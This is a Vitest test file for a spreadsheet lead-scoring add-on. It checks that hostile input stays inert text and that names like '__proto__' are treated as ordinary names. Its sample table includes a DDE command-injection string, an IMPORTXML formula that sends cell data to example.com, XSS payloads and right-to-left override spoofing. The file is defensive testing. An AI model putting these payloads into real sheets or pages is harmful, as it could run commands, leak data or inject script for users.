import { describe, expect, it } from 'vitest';
import { Formula } from '../../src/host/workbook/cell.ts';
import { TestDocument, type TestRow } from '../addon/document.ts';

const hostileTexts: Readonly<Record<string, string>> = {
  'a formula': '=HYPERLINK("http://example.com","click")',
  'a formula by its sign': '+1+cmd|calc!A1',
  'a formula by at': '@SUM(A1:A9)',
  'a sheet function that sends': '=IMPORTXML(CONCATENATE("http://example.com/?",A1),"//a")',
  HTML: '<img src=x onerror=alert(1)><b>bold</b>',
  'a script': '</script><script>alert(1)</script>',
  'right-to-left overrides': '\u202Egnp.exe\u202C \u2066x\u2069',
  '50,000 characters': 'x'.repeat(50_000),
  'a lone surrogate': 'before \uD800 after \uDC00',
  'a NUL and other controls': 'a\u0000b\u0007c\u001bd',
  'a name of every object': '__proto__',
};
const rules: readonly TestRow[] = [
  ['On', 'Rule', 'Field', 'Test', 'Value', 'Points'],
  [true, '=1+1', 'Name', 'is not empty', '', '30'],
  [true, '<b>rule</b>', 'Activity', 'is not empty', '', '20'],
];

function scored(text: string): TestDocument {
  const document = new TestDocument({
    Leads: [
      ['Lead ID', 'Name'],
      ['L1', text],
      [text, 'Ann'],
    ],
    Rules: rules,
    Activities: [
      ['Lead ID', 'Activity', 'When'],
      ['L1', text, '2026-11-01'],
      [text, text, '2026-11-01'],
    ],
  });
  expect(document.scoreLeads().stopped).toBeNull();
  return document;
}

describe('what stands in leads and activities is text and nothing else', () => {
  it.each(Object.entries(hostileTexts))(
    '%s: it stays as it is, and nothing of ours becomes a formula',
    (_, text) => {
      const document = scored(text);
      const sheet = document.sheet('Leads');
      expect([sheet.cells.at(2, 2), sheet.cells.at(3, 1)]).toEqual([text, text]);
      expect(document.column('Leads', 'Score')).toHaveLength(2);
      for (const { cells, maxRows, maxColumns } of document.workbook.sheets)
        for (let row = 1; row <= maxRows; row++)
          for (let column = 1; column <= maxColumns; column++)
            expect(cells.at(row, column)).not.toBeInstanceOf(Formula);
    },
  );

  it.each(['=1+1', '<b>', '\u202E'])('the name of a rule that begins with %s is text in the Why', (name) => {
    const document = new TestDocument({
      Leads: [['Lead ID'], ['L1']],
      Rules: [rules[0]!, [true, name, 'Lead ID', 'is', 'L1', '30']],
    });
    document.scoreLeads();
    expect(document.column('Leads', 'Why')).toEqual([`30 = +30 ${name}`]);
  });
});

describe('names that every object has are names like others', () => {
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'prototype', 'valueOf'];

  it.each(names)('a column, a list, a status, a group and a key %s', (name) => {
    const document = new TestDocument({
      Leads: [
        ['Lead ID', name],
        [name, 'yes'],
        ['L2', 'no'],
      ],
      Rules: [
        ['On', 'Rule', 'Field', 'Test', 'Value', 'Points', 'Group'],
        [true, name, name, 'in list', name, '30', name],
      ],
      Lists: [[name], ['yes']],
      Statuses: [
        ['Status', 'Min score'],
        ['Low', '0'],
        [name, '30'],
      ],
      Settings: [
        ['Setting', 'Value'],
        [`Max points: ${name}`, '25'],
        [name, name],
      ],
    });
    const summary = document.scoreLeads();
    expect(document.column('Leads', 'Score')).toEqual(['25', '0']);
    expect(document.column('Leads', 'Why')).toEqual([
      `25 = +30 ${name} · −5 ${name} cap`,
      '0 = nothing matched',
    ]);
    expect(summary.stopped).toBeNull();
    expect(({} as Record<string, unknown>).yes).toBeUndefined();
  });

  it('a header that is there in no tab is not found in every object', () => {
    const document = new TestDocument({
      Leads: [['Lead ID'], ['L1']],
      Rules: [rules[0]!, [true, 'r', 'constructor', 'is not empty', '', '30']],
    });
    const { problems } = document.scoreLeads();
    expect(problems.map(({ code }) => code)).toContain('column-not-found');
    expect(document.column('Leads', 'Score')).toEqual(['0']);
  });
});
